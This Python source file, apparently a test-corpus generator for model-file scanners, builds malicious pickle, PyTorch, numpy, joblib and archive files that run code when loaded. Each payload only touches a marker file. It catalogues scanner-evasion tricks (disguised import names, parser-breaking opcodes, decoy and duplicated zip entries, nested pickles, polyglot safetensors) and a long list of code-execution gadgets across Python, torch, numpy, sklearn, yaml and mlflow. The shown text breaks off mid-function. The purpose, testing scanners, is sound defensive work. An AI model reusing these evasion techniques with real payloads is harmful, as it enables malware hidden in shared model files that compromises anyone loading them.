"""Model files that run code when Python loads them. Every payload only touches a file: `PWN/<name of the case>`.

`make(folder, pwn)` writes them and gives a list of `Case`. Families are kinds of tricks, not of payloads: most payloads
go through several containers, because a judge may look into one and not into another.
"""

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

MAGIC = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
EMPTY = b"\x80\x02}."


@dataclass
class Case:
    name: str
    family: str
    path: Path


def text(value):
    value = value.encode() if isinstance(value, str) else value
    return b"X" + struct.pack("<I", len(value)) + value


def short(value):
    return b"\x8c" + bytes([len(value.encode())]) + value.encode()


def zipped(members, method=0):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data, *own in members:
            info = zipfile.ZipInfo(name)
            info.compress_type = own[0] if own else method
            archive.writestr(info, data)
    return out.getvalue()


def torch_zip(data, extra=(), top="m", method=0):
    members = [(f"{top}/data.pkl", data), (f"{top}/byteorder", b"little"), (f"{top}/version", b"3\n")]
    return zipped(members + list(extra), method)


def legacy(data, system=b"\x80\x02}.", keys=b"\x80\x02]."):
    return MAGIC + pickle.dumps(1001, protocol=2) + system + data + keys


def tar(members, first="x", format=tarfile.USTAR_FORMAT):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=format) as archive:
        for name, data in [(first, b""), *members]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def npy(data):
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (len(header) + 10) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data


class Maker:
    def __init__(self, folder, pwn):
        self.folder, self.pwn = Path(folder), Path(pwn)
        self.cases = []

    def touch(self, name):
        return f"touch {self.pwn}/{name}"

    def python(self, name):
        return f"__import__('os').system('{self.touch(name)}')"

    def system(self, name):
        """`os.system(…)` as protocol 2 has it, without the header and the end."""
        return b"cos\nsystem\n(" + text(self.touch(name)) + b"tR"

    def evil(self, name):
        return b"\x80\x02" + self.system(name) + b"."

    def add(self, family, name, data):
        name = f"{family.replace(' ', '_').replace(',', '')}-{name}"
        path = self.folder / family / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data(name) if callable(data) else data)
        self.cases.append(Case(name, family, path))

    def add_folder(self, family, name, files):
        folder = self.folder / family / name
        for inner, data in files.items():
            path = folder / inner
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
        self.cases.append(Case(name, family, folder))


# What stops a careful reader of pickles, or leads it astray, while Python's goes on.
BREAKS = {
    "hexint": b"I0x10\n0",
    "octal": b"I0o17\n0",
    "int_underscore": b"I1_0\n0",
    "int_spaces": b"I 12 \n0",
    "int_plus": b"I+12\n0",
    "put_underscore": b"K\x01p1_0\n0",
    "put_fullwidth": b"K\x01p\xef\xbc\x91\n0",
    "put_spaces": b"K\x01p 7 \n0",
    "get_spaces": b"K\x01p1\n0g 1 \n0",
    "float_underscore": b"F1_0.5\n0",
    "float_inf": b"F infinity\n0",
    "float_nan": b"FNaN\n0",
    "long_underscore": b"L1_0L\n0",
    "long_hex": b"L0x10\n0",
    "build_none_on_list": b"]Nb0",
    "build_none_on_tuple": b")Nb0",
    "build_none_on_int": b"K\x01Nb0",
    "build_none_on_text": text("x") + b"Nb0",
    "set_in_list": b"]K\x01aK\x00K\x02s0",
    "computed_arguments": b"cbuiltins\nset\ncbuiltins\ntuple\n)RR0",
    "made_arguments": b"cbuiltins\nset\ncbuiltins\ntuple\n)\x81R0",
    "bytearray_append": b"\x96\x01\x00\x00\x00\x00\x00\x00\x00aK\x02a0",
    "bytearray_set": b"\x96\x02\x00\x00\x00\x00\x00\x00\x00aaK\x00K\x02s0",
    "deque": b"ccollections\ndeque\n)R(K\x01K\x02e0",
    "nothing_appended": b"N(e0",
    "nothing_set": b"](u0",
    "long_line": b"V" + b"x" * 70_000 + b"\n0",
    "longer_line": b"V" + b"x" * 1_500_000 + b"\n0",
    "many_values": b"(" + b"N" * 2_000_000 + b"1",
    "many_steps": b"N0" * 6_100_000,
    "many_imports": b"".join(b"ctorch\nfloat32\n0" for _ in range(1000)),
    "marks": b"(((((1111" + b"1",
    "set_of_items": b"\x8f(K\x01\x90" b"0",
    "latin_text": b"U\x01\xff0",
    "bytes": b"B\x02\x00\x00\x00ab0",
    "bool": b"I01\n0",
}


def broken(make):
    for kind, prefix in BREAKS.items():
        head = b"\x80\x05" + prefix
        make.add("odd instruction", f"{kind}.pkl", lambda n, h=head: h + make.system(n) + b".")
        make.add("odd instruction", f"{kind}.pth", lambda n, h=head: torch_zip(h + make.system(n) + b"."))
        make.add("odd instruction, pre-1.6", f"{kind}.pt", lambda n, h=head: legacy(h + make.system(n) + b"."))
    for kind, tail in {"cut": b"", "nonsense": b"\xff", "no_mark": b"t", "get": b"h\x77", "proto": b"\x80\x63"}.items():
        make.add("breaks off after", f"{kind}.pkl", lambda n, t=tail: b"\x80\x02" + make.system(n) + t)
        make.add("breaks off after", f"{kind}.pth", lambda n, t=tail: torch_zip(b"\x80\x02" + make.system(n) + t))
        make.add("breaks off after", f"{kind}.pt", lambda n, t=tail: legacy(b"\x80\x02" + make.system(n) + t))


def names(make):
    def called(head):
        return lambda n: b"\x80\x04" + head + b"\x93(" + text(make.touch(n)) + b"tR."

    spelled = {
        "u": b"V\\u006fs\nV\\u0073ystem\n",
        "U": b"V\\U0000006fs\nVsyste\\u006d\n",
        "x": b"S'\\x6fs'\nS'\\x73ystem'\n",
        "octal": b"S'\\157s'\nS\"system\"\n",
        "mixed": b"S'o\\163'\n" + text("system"),
        "short": short("os") + short("system"),
        "posix": short("posix") + short("system"),
        "main_dotted": short("__main__") + short("os.system"),
        "random_os": short("random") + short("_os.system"),
        "linear": short("torch.nn.modules.module") + short("torch.os.system"),
        "uuid_os": short("uuid") + short("os.system"),
        "argparse_os": short("argparse") + short("_os.system"),
        "pathlib_os": short("pathlib") + short("os.system"),
        "tempfile_os": short("tempfile") + short("_os.system"),
        "torch_os": short("torch") + short("os.system"),
        "numpy_os": short("numpy.lib._npyio_impl") + short("os.system"),
        "sklearn_os": short("sklearn.utils") + short("_joblib.joblib.os.system"),
        "pandas_os": short("pandas.io.common") + short("os.system"),
        "joblib_os": short("joblib.disk") + short("os.system"),
        "from_memo": b"S'\\x6fs'\np0\n0" + short("system") + b"q\x010h\x00h\x01",
    }
    for kind, head in spelled.items():
        make.add("names in disguise", f"{kind}.pkl", called(head))
        make.add("names in disguise", f"{kind}.pth", lambda n, c=called(head): torch_zip(c(n)))
    for kind, head in {"inst": b"(X%sios\nsystem\n", "obj": b"(cos\nsystem\nX%so", "old": b"(S'%s'\nios\nsystem\n"}.items():
        def data(n, h=head):
            touch = make.touch(n).encode()
            return b"\x80\x02" + h.replace(b"X%s", text(touch)).replace(b"%s", touch) + b"."
        make.add("names in disguise", f"{kind}.pkl", data)
    for kind, (module, name) in {"py2": ("commands", "getoutput"), "builtin": ("__builtin__", "eval")}.items():
        def data(n, m=module, a=name):
            argument = make.python(n) if a == "eval" else make.touch(n)
            return b"\x80\x02c" + m.encode() + b"\n" + a.encode() + b"\n(" + text(argument) + b"tR."
        make.add("names in disguise", f"{kind}.pkl", data)


def gadgets(make):
    """Functions that run what they are given, in Python itself and in packages that people have."""
    p, t = make.python, make.touch
    one = lambda what: lambda n: (what(n),)
    table = {
        "os.popen": one(t), "posix.system": one(t), "subprocess.getoutput": one(t), "subprocess.getstatusoutput": one(t),
        "builtins.eval": one(p), "builtins.exec": one(p), "timeit.timeit": one(p), "timeit.repeat": one(p),
        "cProfile.run": one(p), "profile.run": one(p), "trace.sys.modules": None, "code.interact": None,
        "pdb.run": one(p), "pydoc.pipepager": lambda n: ("x", t(n)), "pydoc.tempfilepager": lambda n: ("x", t(n) + ";"),
        "uuid._get_command_stdout": lambda n: ("touch", f"{make.pwn}/{n}"), "_aix_support._read_cmd_output": one(t),
        "_osx_support._read_output": one(t), "pty.spawn": lambda n: (["touch", f"{make.pwn}/{n}"],),
        "runpy._run_code": lambda n: (p(n), {}), "pathlib.Path.touch": None, "shutil.os.system": one(t),
        "distutils.file_util.write_file": lambda n: (f"{make.pwn}/{n}", ["x"]),
        "distutils.spawn.spawn": lambda n: (["touch", f"{make.pwn}/{n}"],),
        "ctypes.util._findLib_gcc": None, "doctest.debug_script": None, "ensurepip._run_pip": None,
        "logging.FileHandler": lambda n: (f"{make.pwn}/{n}",), "io.open": lambda n: (f"{make.pwn}/{n}", "w"),
        "builtins.open": lambda n: (f"{make.pwn}/{n}", "w"), "codecs.open": lambda n: (f"{make.pwn}/{n}", "w"),
        "gzip.GzipFile": lambda n: (f"{make.pwn}/{n}", "w"), "bz2.BZ2File": lambda n: (f"{make.pwn}/{n}", "w"),
        "lzma.LZMAFile": lambda n: (f"{make.pwn}/{n}", "w"), "zipfile.ZipFile": lambda n: (f"{make.pwn}/{n}", "w"),
        "tarfile.TarFile": lambda n: (f"{make.pwn}/{n}", "w"), "os.mkdir": lambda n: (f"{make.pwn}/{n}",),
        "sqlite3.connect": lambda n: (f"{make.pwn}/{n}?mode=rwc",), "dbm.dumb.open": lambda n: (f"{make.pwn}/{n}", "n"),
        "os.symlink": lambda n: ("x", f"{make.pwn}/{n}"), "os.mkfifo": lambda n: (f"{make.pwn}/{n}",),
        "asyncio.run": None, "importlib.import_module": None, "site.execusercustomize": None,
        # torch
        "torch.utils.collect_env.run": one(t), "torch.save": lambda n: ({}, f"{make.pwn}/{n}"),
        "torch.from_file": lambda n: (f"{make.pwn}/{n}", True, 4),
        "torch.jit.unsupported_tensor_ops.execWrapper": lambda n: (p(n), {}, {}),
        "torch.distributed.run.main": lambda n: (["--no-python", "touch", f"{make.pwn}/{n}"],),
        "torch.testing._internal.common_utils.shell": lambda n: (["touch", f"{make.pwn}/{n}"],),
        "torch.utils.bottleneck.__main__.run_cprofile": lambda n: (p(n), {}),
        "torch.fx.graph_module._exec_with_source": lambda n: (p(n), {}),
        "torch.fx._lazy_graph_module._exec_with_source": None,
        "torch.serialization.save": lambda n: ({}, f"{make.pwn}/{n}"), "torch._utils_internal.os.system": one(t),
        "torch.utils.cpp_extension.subprocess.check_output": lambda n: (["touch", f"{make.pwn}/{n}"],),
        "torch.hub.os.system": one(t), "torch.utils.hipify.hipify_python.os.mkdir": lambda n: (f"{make.pwn}/{n}",),
        "torch.package.PackageExporter": lambda n: (f"{make.pwn}/{n}",),
        "torch._C.PyTorchFileWriter": None, "torch.jit._serialization.os.mkdir": lambda n: (f"{make.pwn}/{n}",),
        "torch.onnx.utils.os.mkdir": None, "torch.UntypedStorage.from_file": lambda n: (f"{make.pwn}/{n}", True, 4),
        # numpy, pandas, scikit-learn, joblib, MLflow and what comes with them
        "numpy.testing._private.utils.runstring": lambda n: (p(n), {}), "numpy.save": lambda n: (f"{make.pwn}/{n}", 1),
        "numpy.f2py.crackfortran.getlincoef": lambda n: (p(n), {}), "numpy.f2py.crackfortran.myeval": one(p),
        "numpy.f2py.crackfortran.param_eval": lambda n: (p(n), {}, {}),
        "numpy.savetxt": lambda n: (f"{make.pwn}/{n}", [1]), "numpy.savez": lambda n: (f"{make.pwn}/{n}",),
        "numpy.memmap": lambda n: (f"{make.pwn}/{n}", "u1", "w+", 0, 8), "numpy.lib.format.open_memmap": lambda n: (f"{make.pwn}/{n}", "w+", "u1", (2,)),
        "pandas.io.common.get_handle": lambda n: (f"{make.pwn}/{n}", "w"),
        "pandas.to_pickle": lambda n: (1, f"{make.pwn}/{n}"), "pandas.ExcelWriter": None, "pandas.eval": None,
        "joblib.dump": lambda n: (1, f"{make.pwn}/{n}"), "joblib.numpy_pickle.dump": lambda n: (1, f"{make.pwn}/{n}"),
        "joblib.disk.mkdirp": lambda n: (f"{make.pwn}/{n}",), "joblib.Memory": lambda n: (f"{make.pwn}/{n}",),
        "sklearn.utils._testing.os.system": one(t), "sklearn.externals._packaging.version.os": None,
        "sklearn.datasets.dump_svmlight_file": None, "sklearn.datasets.get_data_home": lambda n: (f"{make.pwn}/{n}",),
        "scipy.io.savemat": lambda n: (f"{make.pwn}/{n}", {}), "scipy._lib._testutils.os.mkdir": None,
        "sympy.sympify": one(p), "sympy.parsing.sympy_parser.parse_expr": one(p), "sympy.core.sympify.sympify": one(p),
        "mlflow.utils.process._exec_cmd": lambda n: (["touch", f"{make.pwn}/{n}"],),
        "mlflow.utils.file_utils.mkdir": lambda n: (f"{make.pwn}/{n}",),
        "xgboost.testing.os.system": None, "lightgbm.basic.json": None,
        "setuptools._distutils.spawn.spawn": lambda n: (["touch", f"{make.pwn}/{n}"],),
        "setuptools._distutils.file_util.write_file": lambda n: (f"{make.pwn}/{n}", ["x"]),
        "pip._internal.utils.misc.ensure_dir": lambda n: (f"{make.pwn}/{n}",),
        "networkx.utils.os.mkdir": None, "jinja2.utils.os.mkdir": lambda n: (f"{make.pwn}/{n}",),
        "yaml.unsafe_load": lambda n: (f"!!python/object/apply:os.system ['{t(n)}']",),
        "cloudpickle.cloudpickle._make_function": None, "fsspec.open_local": None,
        "fsspec.implementations.local.LocalFileSystem": None, "git.cmd.os.mkdir": lambda n: (f"{make.pwn}/{n}",),
        "matplotlib.cbook.os": None, "PIL.ImageShow.os.system": one(t),
    }
    deep = {"torch.utils.bottleneck.__main__.run_cprofile"}
    for dotted, arguments in table.items():
        if arguments is None:
            continue
        module, name = split(dotted, dotted in deep)
        def data(n, m=module, a=name, f=arguments):
            return b"\x80\x04" + short(m) + short(a) + b"\x93(" + b"".join(map(value, f(n))) + b"tR."
        make.add("functions that run", f"{dotted}.pkl", data)
        make.add("functions that run, in torch", f"{dotted}.pt", lambda n, d=data: torch_zip(d(n)))


def split(dotted, deep):
    """Module and name: the longest part that can be imported is the module."""
    import importlib

    parts = dotted.split(".")
    for length in range(len(parts) - 1, 0, -1):
        module = ".".join(parts[:length])
        try:
            importlib.import_module(module)
        except Exception:
            continue
        return module, ".".join(parts[length:])
    return dotted.rsplit(".", 1)


def value(of):
    if isinstance(of, dict):
        return b"}"
    if isinstance(of, bool):
        return b"\x88" if of else b"\x89"
    if isinstance(of, int):
        return b"K" + bytes([of])
    if isinstance(of, (list, tuple)):
        return b"(" + b"".join(map(value, of)) + (b"l" if isinstance(of, list) else b"t")
    return text(of)


def ways(make):
    """Ways to a call that are no plain call of a name."""
    s = make.system

    def pickled(n):
        return b"B" + struct.pack("<I", len(make.evil(n))) + make.evil(n)

    kinds = {
        "nested_pickle": lambda n: b"cpickle\nloads\n(" + pickled(n) + b"tR",
        "nested__pickle": lambda n: b"c_pickle\nloads\n(" + pickled(n) + b"tR",
        "load_from_bytes": lambda n: b"ctorch.storage\n_load_from_bytes\n(" + b"B" + struct.pack("<I", len(torch_zip(make.evil(n)))) + torch_zip(make.evil(n)) + b"tR",
        "load_from_bytes_pre16": lambda n: b"ctorch.storage\n_load_from_bytes\n(" + b"B" + struct.pack("<I", len(make.evil(n))) + make.evil(n) + b"tR",
        "partial": lambda n: b"cfunctools\npartial\n(cos\nsystem\n" + text(make.touch(n)) + b"tR)R",
        "partial_posix": lambda n: b"cfunctools\npartial\n(cposix\nsystem\n" + text(make.touch(n)) + b"tR)R",
        "reduce": lambda n: b"cfunctools\nreduce\n(cos\nsystem\n(" + text(make.touch(n)) + b"l(K\x00ttR",
        "map": lambda n: b"cbuiltins\nlist\n(cbuiltins\nmap\n(cos\nsystem\n(" + text(make.touch(n)) + b"ltRtR",
        "filter": lambda n: b"cbuiltins\nlist\n(cbuiltins\nfilter\n(cos\nsystem\n(" + text(make.touch(n)) + b"ltRtR",
        "starmap": lambda n: b"cbuiltins\nlist\n(citertools\nstarmap\n(cos\nsystem\n((" + text(make.touch(n)) + b"tltRtR",
        "methodcaller": lambda n: b"coperator\nmethodcaller\n(" + text("system") + text(make.touch(n)) + b"tR(cimportlib\nimport_module\n(" + text("os") + b"tRtR",
        "attrgetter": lambda n: b"coperator\nattrgetter\n(" + text("system") + b"tR(cimportlib\nimport_module\n(" + text("os") + b"tRtR(" + text(make.touch(n)) + b"tR",
        "getattr": lambda n: b"cbuiltins\ngetattr\n(c__builtin__\n__import__\n(" + text("os") + b"tR" + text("system") + b"tR(" + text(make.touch(n)) + b"tR",
        "rebuild_from_type": lambda n: b"ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\nctorch\nTensor\n(" + text(make.touch(n)) + b"t}tR",
        "rebuild_partial": lambda n: b"ctorch._tensor\n_rebuild_from_type_v2\n(cfunctools\npartial\n(cos\nsystem\ntRctorch\nTensor\n(" + text(make.touch(n)) + b"t}tR",
        "newobj_ex": lambda n: b"csubprocess\nPopen\n(" + b"(" + text("touch") + text(f"{make.pwn}/{n}") + b"lt}\x92csubprocess\nrun\n((" + text("touch") + text(f"{make.pwn}/{n}") + b"ltR\x86",
        "popen": lambda n: b"csubprocess\nPopen\n((" + text("touch") + text(f"{make.pwn}/{n}") + b"ltR",
        "defaultdict_missing": lambda n: b"coperator\ngetitem\n(ccollections\ndefaultdict\n(cfunctools\npartial\n(cos\nsystem\n" + text(make.touch(n)) + b"tRtRK\x01tR",
        "build_class": lambda n: b"ccollections\nOrderedDict\n(}" + text("__setstate__") + b"cos\nsystem\nstb0" + s(n),
        "setstate_on_class": lambda n: b"cargparse\nNamespace\nN}" + text("__setstate__") + b"cos\nsystem\ns\x86b)\x81" + text(make.touch(n)) + b"b",
        "identity_then_build": lambda n: b"cbuiltins\nmax\n((cargparse\nNamespace\nltRN}" + text("__setstate__") + b"cos\nsystem\ns\x86b0cargparse\nNamespace\n)\x81" + text(make.touch(n)) + b"b",
        "build_on_type_tag": lambda n: b"ctorch.jit._pickle\nrestore_type_tag\n(cargparse\nNamespace\n" + text("x") + b"tRN}" + text("__setstate__") + b"cos\nsystem\ns\x86b0cargparse\nNamespace\n)\x81" + text(make.touch(n)) + b"b",
        "build_on_list": lambda n: b"ctorch.jit._pickle\nbuild_intlist\n(cargparse\nNamespace\ntRN}" + text("__setstate__") + b"cos\nsystem\ns\x86b0cargparse\nNamespace\n)\x81" + text(make.touch(n)) + b"b",
        "scalar_identity": lambda n: s(n) + b"0cnumpy._core.multiarray\nscalar\n(cnumpy\ndtype\n(" + text("O8") + b"\x89\x88tRcargparse\nNamespace\ntR",
        "exec_code": lambda n: b"cbuiltins\nexec\n(cbuiltins\ncompile\n(" + text(make.python(n)) + text("x") + text("exec") + b"tRtR",
        "type_with_method": lambda n: b"cbuiltins\ntype\n(" + text("T") + b")}" + text("__setstate__") + b"cos\nsystem\nstR)\x81" + text(make.touch(n)) + b"b",
        "extension": lambda n: b"ccopyreg\nadd_extension\n(" + text("os") + text("system") + b"K\x05tR0\x82\x05(" + text(make.touch(n)) + b"tR",
        "reconstructor": lambda n: b"ccopyreg\n_reconstructor\n(csubprocess\nPopen\ncsubprocess\nPopen\n(" + text("touch") + text(f"{make.pwn}/{n}") + b"ltR",
        "dispatch_table": lambda n: s(n) + b"0ccopyreg\ndispatch_table\nK\x01K\x02s",
        "weakref": lambda n: b"cbuiltins\nlist\n(cbuiltins\nmap\n(cposix\nsystem\n(" + text(make.touch(n)) + b"ltRtR",
        "in_a_key": lambda n: b"}" + s(n) + b"K\x01s",
        "in_a_state": lambda n: b"c__main__\nobject\n0cargparse\nNamespace\n)\x81}" + text("x") + s(n) + b"sb",
        "in_a_memo": lambda n: s(n) + b"q\x010h\x01",
        "thrown_away": lambda n: s(n) + b"0}",
        "below_a_mark": lambda n: b"(" + s(n) + b"1}",
    }
    for kind, body in kinds.items():
        make.add("ways to a call", f"{kind}.pkl", lambda n, b=body: b"\x80\x04" + b(n) + b".")
        make.add("ways to a call, in torch", f"{kind}.pt", lambda n, b=body: torch_zip(b"\x80\x04" + b(n) + b"."))


def zips(make):
    e = make.evil
    rest = [("m/byteorder", b"little"), ("m/version", b"3\n")]
    family = "games with zips"
    add = lambda name, data: make.add(family, name, data)
    add("upper.pth", lambda n: zipped([("m/DATA.PKL", e(n)), *rest]))
    add("mixed.pth", lambda n: zipped([("m/Data.pkl", e(n)), *rest]))
    add("upper_first.pth", lambda n: zipped([("m/DATA.PKL", e(n)), *rest, ("m/data.pkl", EMPTY)]))
    add("upper_last.pth", lambda n: zipped([("m/data.pkl", EMPTY), *rest, ("m/DATA.PKL", e(n))]))
    add("upper_folder.pth", lambda n: zipped([("M/data.pkl", e(n)), ("M/version", b"3"), ("m/data.pkl", EMPTY), *rest]))
    add("folder_first.pth", lambda n: zipped([("m/data.pkl", e(n)), *rest, ("M/data.pkl", EMPTY)]))
    add("compressed.pth", lambda n: torch_zip(e(n), method=8))
    add("compressed_upper.pth", lambda n: zipped([("m/DATA.PKL", e(n), 8), *rest]))
    add("two_folders.pth", lambda n: zipped([("m/data.pkl", e(n)), *rest, ("x/readme", b"hi")]))
    add("two_folders_compressed.pth", lambda n: zipped([("m/data.pkl", e(n), 8), *rest, ("x/readme", b"hi")]))
    add("decoy_in_other.pth", lambda n: zipped([("m/data.pkl", e(n)), *rest, ("n/data.pkl", EMPTY)]))
    add("decoy_at_root.pth", lambda n: zipped([("m/data.pkl", e(n), 8), *rest, ("data.pkl", EMPTY)]))
    add("twice_first.pth", lambda n: zipped([("m/data.pkl", e(n)), *rest, ("m/data.pkl", EMPTY)]))
    add("twice_last.pth", lambda n: zipped([("m/data.pkl", EMPTY), *rest, ("m/data.pkl", e(n))]))
    add("trailing.pth", lambda n: torch_zip(e(n)) + b"x" * 10)
    add("comment.pth", lambda n: torch_zip(e(n))[:-2] + b"\x0a\x00" + b"x" * 10)
    add("bad_crc.pth", lambda n: torch_zip(e(n)).replace(struct.pack("<I", zlib.crc32(e(n))), b"\xde\xad\xbe\xef"))
    add("trailing_in_pickle.pth", lambda n: torch_zip(e(n) + b"more"))
    add("good_last.pth", lambda n: joined(torch_zip(e(n)), torch_zip(EMPTY)))
    add("bad_last.pth", lambda n: joined(torch_zip(EMPTY), torch_zip(e(n))))
    add("end_in_comment.pth", lambda n: in_comment(torch_zip(e(n)), torch_zip(EMPTY)))
    add("end_in_comment_and_more.pth", lambda n: in_comment(torch_zip(e(n)), torch_zip(EMPTY)) + b"zzz")
    for kind, (disk, total) in {"disk": (4, 3), "total": (3, 4), "both": (3, 3)}.items():
        add(f"count_{kind}.pth", lambda n, d=disk, t=total: counts(zipped([*rest, ("m/x.txt", b"hi"), ("m/data.pkl", e(n))]), d, t))
    for kind, (sign, at, flag) in {
        "encrypted_local": (b"PK\x03\x04", 6, 1), "encrypted_central": (b"PK\x01\x02", 8, 1), "patched": (b"PK\x01\x02", 8, 0x20),
        "strong": (b"PK\x01\x02", 8, 0x40), "utf8": (b"PK\x01\x02", 8, 0x800), "masked": (b"PK\x01\x02", 8, 0x2000),
        "method": (b"PK\x03\x04", 8, 8), "follows": (b"PK\x03\x04", 6, 8),
    }.items():
        add(f"flag_{kind}.pth", lambda n, s=sign, a=at, f=flag: flagged(torch_zip(e(n)), s, a, f))
    add("constants.pth", lambda n: torch_zip(EMPTY, [("m/other.pkl", e(n))]))
    add("evil_beside.pt", lambda n: zipped([("m/a.pkl", e(n))]))
    add("evil_inside.zip", lambda n: zipped([("data.pkl", e(n))]))
    add("prefix.pt", lambda n: shifted(b"#!/bin/sh\n", torch_zip(e(n))))
    add("no_folder.pth", lambda n: zipped([("data.pkl", e(n)), ("version", b"3\n")]))
    add("deep_folder.pth", lambda n: zipped([("a/b/data.pkl", e(n)), ("a/data.pkl", EMPTY), ("a/version", b"3\n")]))
    add("inner_torch.pt", lambda n: torch_zip(EMPTY, [("m/inner.pt", torch_zip(e(n)))]))
    add("inner_pre16.pt", lambda n: torch_zip(EMPTY, [("m/inner.pt", legacy(e(n)))]))
    add("legacy_in_zip.pth", lambda n: torch_zip(legacy(e(n))))
    add("npz.npz", lambda n: zipped([("a.npy", npy(e(n)))]))
    add("npz_compressed.npz", lambda n: zipped([("a.npy", npy(e(n)))], 8))


def joined(first, second):
    """Two whole zips, the second's places moved."""
    second, off = bytearray(second), len(first)
    end = second.rfind(b"PK\x05\x06")
    start = struct.unpack("<I", second[end + 16 : end + 20])[0]
    at = start
    while second[at : at + 4] == b"PK\x01\x02":
        name, extra, comment = struct.unpack("<HHH", second[at + 28 : at + 34])
        place = struct.unpack("<I", second[at + 42 : at + 46])[0]
        second[at + 42 : at + 46] = struct.pack("<I", place + off)
        at += 46 + name + extra + comment
    second[end + 16 : end + 20] = struct.pack("<I", start + off)
    return first + bytes(second)


def in_comment(bad, good):
    end = bad[bad.rfind(b"PK\x05\x06") :]
    both = bytearray(joined(bad, good))
    both[-2:] = struct.pack("<H", len(end))
    return bytes(both) + end


def shifted(prefix, archive):
    return joined(prefix, archive)


def counts(data, disk, total):
    data = bytearray(data)
    end = data.rfind(b"PK\x05\x06")
    data[end + 8 : end + 12] = struct.pack("<HH", disk, total)
    return bytes(data)


def flagged(data, sign, offset, flag):
    data, at = bytearray(data), 0
    while (at := data.find(sign, at)) >= 0:
        data[at + offset : at + offset + 2] = struct.pack("<H", flag)
        at += 4
    return bytes(data)


def forms(make):
    e = make.evil
    add = lambda name, data: make.add("other forms", name, data)
    add("pre16.pth", lambda n: legacy(e(n)))
    add("pre16_system.pth", lambda n: legacy(EMPTY, system=e(n)))
    add("pre16_keys.pth", lambda n: legacy(EMPTY, keys=e(n)))
    add("pre16_magic.pth", lambda n: e(n)[:-1] + b"0" + MAGIC[2:])
    add("pre16_protocol.pth", lambda n: MAGIC + e(n)[:-1] + b"0M\xe9\x03.")
    add("multi.pkl", lambda n: EMPTY + e(n))
    add("multi_third.pkl", lambda n: EMPTY + EMPTY + e(n))
    add("protocol0.pkl", lambda n: b"cos\nsystem\n(S'" + make.touch(n).encode() + b"'\ntR.")
    add("text.txt", lambda n: b"cos\nsystem\n(S'" + make.touch(n).encode() + b"'\ntR.")
    add("noending", lambda n: e(n))
    add("config.json", lambda n: e(n))
    add("readme.md", lambda n: e(n))
    for ending in ["bin", "ckpt", "h5", "onnx", "dat", "model", "pickle", "joblib", "pk", "p"]:
        add(f"ending.{ending}", lambda n: e(n))
    for level in [0, 1, 6, 9]:
        add(f"zlib{level}.joblib", lambda n, l=level: zlib.compress(e(n), l))
    add("gzip.joblib", lambda n: gzip.compress(e(n)))
    add("gzip_two.joblib", lambda n: gzip.compress(e(n)[:20]) + gzip.compress(e(n)[20:]))
    add("zlib_two.joblib", lambda n: zlib.compress(e(n)[:20]) + zlib.compress(e(n)[20:]))
    add("bz2.joblib", lambda n: bz2.compress(e(n)))
    add("xz.joblib", lambda n: lzma.compress(e(n)))
    add("lzma.joblib", lambda n: lzma.compress(e(n), format=lzma.FORMAT_ALONE))
    add("lzma_two.joblib", lambda n: lzma.compress(EMPTY, format=lzma.FORMAT_ALONE) + lzma.compress(e(n), format=lzma.FORMAT_ALONE))
    add("bz2_two.joblib", lambda n: bz2.compress(e(n)[:20]) + bz2.compress(e(n)[20:]))
    add("gzip_more.joblib", lambda n: gzip.compress(e(n)) + b"more")
    add("gzip_cut.joblib", lambda n: gzip.compress(e(n) + bytes(range(256)) * 9)[:-9])
    add("npy.npy", lambda n: npy(e(n)))
    add("npy.bin", lambda n: npy(e(n)))
    add("npy_version2.npy", lambda n: npy(e(n)).replace(b"NUMPY\x01\x00", b"NUMPY\x02\x00", 1)[:10] + b"\x00\x00" + npy(e(n))[10:])
    add("npy_structured.npy", lambda n: npy(e(n)).replace(b"'|O'", b"[('a', '|O')]", 1).replace(b" " * 9, b"", 1))
    header = lambda n, old, new: npy(e(n)).replace(old, new, 1)
    add("npy_escape.npy", lambda n: header(n, b"'|O'", b"'\\x7cO'").replace(b" " * 3, b"", 1))
    add("npy_twice.npy", lambda n: header(n, b"'|O', ", b"'<f8', 'd\\x65scr': '|O', ").replace(b" " * 23, b"", 1))
    three = lambda n: [("storages", e(n)), ("tensors", pickle.dumps(0, 2)), ("pickle", EMPTY)]
    add("tar.pth", lambda n: tar(three(n)))
    add("tar_pax.pth", lambda n: tar(three(n), format=tarfile.PAX_FORMAT))
    add("tar_gnu.pth", lambda n: tar(three(n), format=tarfile.GNU_FORMAT))
    add("tar_as_pickle.pth", lambda n: tar(three(n), first="}."))
    add("tar_as_lfs.pth", lambda n: tar(three(n), first="version https://git-lfs.github.com/spec/v1"))
    add("tar_as_html.pth", lambda n: tar(three(n), first="<!DOCTYPE html>"))
    add("tar_base256.pth", lambda n: base256(tar(three(n))))
    add("polyglot.safetensors.pt", lambda n: safetensors_and_pickle(make.system(n)))
    add("polyglot_json.pt", lambda n: b"}" + e(n)[2:])
    head = b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n"
    add("joblib_array.pkl", lambda n: joblib_array(head, make.system(n)))
    add("joblib_objects.joblib", lambda n: joblib_objects(head, e(n)))


def base256(data):
    data = bytearray(data)
    data[148:156] = b" " * 8
    total = sum(data[:512])
    data[148:156] = b"\x80" + total.to_bytes(7, "big")
    return bytes(data)


def safetensors_and_pickle(body):
    """A safetensors file whose first bytes are a text for pickle, and whose tensor is the rest of the pickle."""
    body = b"0" + body + b"."
    header = b'{"w":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}' % (len(body), len(body))
    header += b" " * (0x56 - 2 - len(header)) + b"\n}"
    return struct.pack("<Q", len(header)) + header + body


def joblib_array(head, body):
    """`joblib.load` takes the payload for the bytes of an array, `pickle.load` for instructions."""
    state = b"}(" + text("subclass") + b"cnumpy\nndarray\n" + text("shape") + b"K" + bytes([len(body) + 1]) + b"\x85"
